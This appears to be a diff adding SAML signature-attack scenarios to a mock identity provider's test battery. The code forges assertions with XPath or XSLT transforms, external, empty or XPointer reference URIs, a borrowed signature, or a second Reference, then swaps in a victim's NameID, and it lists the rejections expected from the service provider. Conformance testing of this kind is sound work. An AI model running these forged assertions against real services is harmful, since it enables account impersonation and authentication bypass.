@@ -1,0 +1,155 @@
+"""Signature references and transforms: what a signature covers, and how it is computed.
+
+Rule: a signature covers exactly the element it sits in, through one same-document Reference
+(`#ID`), with only the enveloped-signature and exclusive-c14n transforms; the SP never runs
+XSLT or XPath from a message and never dereferences an external URI (DESIGN.md §5).
+The transform scenarios are genuinely signed with the IdP key, with a transform that leaves
+the NameID outside the digest, and then name the victim: an SP that runs any transform the
+message asks for accepts them.
+"""
+
+from __future__ import annotations
+
+from collections.abc import Callable
+from functools import partial
+
+import xmlsec
+from lxml import etree
+
+from mock_idp.scenarios.base import Context, Message, q, scenario, set_name_id, signature_of
+from samlkit import ns
+
+_s = partial(scenario, family="references")
+_XSL = "http://www.w3.org/1999/XSL/Transform"
+
+
+def _sign_with(ctx: Context, element: etree._Element, transform: Callable[[etree._Element], None]) -> None:
+    """An enveloped signature over `element` by the IdP key, with `transform` adding to the Reference."""
+    sig = xmlsec.template.create(element, xmlsec.Transform.EXCL_C14N, xmlsec.Transform.RSA_SHA256, ns="ds")
+    element.find(q("Issuer")).addnext(sig)
+    ref = xmlsec.template.add_reference(sig, xmlsec.Transform.SHA256, uri="#" + element.get("ID"))
+    xmlsec.template.add_transform(ref, xmlsec.Transform.ENVELOPED)
+    transform(ref)
+    xmlsec.template.add_transform(ref, xmlsec.Transform.EXCL_C14N)
+    xmlsec.template.add_x509_data(xmlsec.template.ensure_key_info(sig))
+    sc = xmlsec.SignatureContext()
+    sc.key = xmlsec.Key.from_memory(ctx.idp_key_pem, xmlsec.KeyFormat.PEM)
+    sc.key.load_cert_from_memory(ctx.idp_cert_pem, xmlsec.KeyFormat.CERT_PEM)
+    sc.register_id(element, "ID")
+    sc.sign(sig)
+
+
+def _reference(element: etree._Element) -> etree._Element:
+    return signature_of(element).find(f"{q('SignedInfo', ns.DS)}/{q('Reference', ns.DS)}")
+
+
+@_s(
+    "xpath-transform",
+    rule="Only the enveloped-signature and exclusive-c14n transforms: an XPath filter can leave content unsigned.",
+    expect={"transform-forbidden", "signature-invalid"},
+)
+def xpath(ctx: Context) -> Message:
+    """The Assertion signed through an XPath filter that excludes the NameID, which then names the victim."""
+    resp, assertion = ctx.build()
+
+    def add(ref: etree._Element) -> None:
+        t = xmlsec.template.add_transform(ref, xmlsec.Transform.XPATH)
+        expr = etree.SubElement(t, q("XPath", ns.DS), nsmap={"saml": ns.SAML})
+        expr.text = "not(ancestor-or-self::saml:NameID)"
+
+    _sign_with(ctx, assertion, add)
+    set_name_id(assertion, ctx.victim_name_id)
+    return ctx.message(resp)
+
+
+@_s(
+    "xslt-transform",
+    rule="Never run XSLT from a message: a stylesheet can make the digest cover nothing (or run code).",
+    expect={"transform-forbidden", "signature-invalid"},
+)
+def xslt(ctx: Context) -> Message:
+    """The Assertion signed through an XSLT transform whose output is a constant, then naming the victim."""
+    resp, assertion = ctx.build()
+
+    def add(ref: etree._Element) -> None:
+        t = xmlsec.template.add_transform(ref, xmlsec.Transform.XSLT)
+        sheet = etree.SubElement(t, ns.q(_XSL, "stylesheet"), {"version": "1.0"}, nsmap={"xsl": _XSL})
+        template = etree.SubElement(sheet, ns.q(_XSL, "template"), {"match": "/"})
+        etree.SubElement(template, "constant")
+
+    _sign_with(ctx, assertion, add)
+    set_name_id(assertion, ctx.victim_name_id)
+    return ctx.message(resp)
+
+
+@_s(
+    "external-uri-reference",
+    rule="A Reference never points outside the message; the SP must not fetch it.",
+    expect={"signature-wrong-reference", "signature-invalid"},
+)
+def external_uri(ctx: Context) -> Message:
+    """The Assertion signature's Reference URI rewritten to the attacker's URL (the battery's canary)."""
+    resp, assertion = ctx.signed("assertion")
+    _reference(assertion).set("URI", f"{ctx.canary_url}/external-uri-reference")
+    set_name_id(assertion, ctx.victim_name_id)
+    return ctx.message(resp)
+
+
+@_s(
+    "empty-uri-reference",
+    rule="A Reference names the element the signature sits in by ID, not the whole document (URI='').",
+    expect={"signature-wrong-reference", "signature-invalid"},
+)
+def empty_uri(ctx: Context) -> Message:
+    """Both signatures' Reference URI set to "" (the whole document), NameID changed to the victim."""
+    resp, assertion = ctx.signed("both")
+    for el in (resp, assertion):
+        _reference(el).set("URI", "")
+    set_name_id(assertion, ctx.victim_name_id)
+    return ctx.message(resp)
+
+
+@_s(
+    "xpointer-reference",
+    rule="A Reference is a plain #ID, not an XPointer expression.",
+    expect={"signature-wrong-reference", "signature-invalid"},
+)
+def xpointer(ctx: Context) -> Message:
+    """The Assertion signature's Reference URI rewritten as #xpointer(/), NameID changed to the victim."""
+    resp, assertion = ctx.signed("assertion")
+    _reference(assertion).set("URI", "#xpointer(/)")
+    set_name_id(assertion, ctx.victim_name_id)
+    return ctx.message(resp)
+
+
+@_s(
+    "reference-to-other-element",
+    rule="An Assertion's signature must reference that Assertion, not another signed element.",
+    expect={"signature-wrong-reference", "signature-invalid", "signature-missing"},
+)
+def other_element(ctx: Context) -> Message:
+    """An unsigned evil Assertion carrying the Response's Signature (which references the Response) as its own."""
+    resp, assertion = ctx.signed("response")
+    sig = signature_of(resp)
+    assertion.find(q("Issuer")).addnext(sig)
+    set_name_id(assertion, ctx.victim_name_id)
+    return ctx.message(resp)
+
+
+@_s(
+    "two-references",
+    rule="A signature has exactly one Reference.",
+    expect={"signature-invalid", "signature-wrong-reference"},
+)
+def two_references(ctx: Context) -> Message:
+    """A second Reference (to the Issuer) added to the Assertion's SignedInfo, NameID changed to the victim."""
+    resp, assertion = ctx.signed("assertion")
+    ref = _reference(assertion)
+    extra = etree.fromstring(etree.tostring(ref))
+    extra.set("URI", "#issuer")
+    ref.addnext(extra)
+    set_name_id(assertion, ctx.victim_name_id)
+    return ctx.message(resp)
+
+
+SCENARIOS = [xpath, xslt, external_uri, empty_uri, xpointer, other_element, two_references]
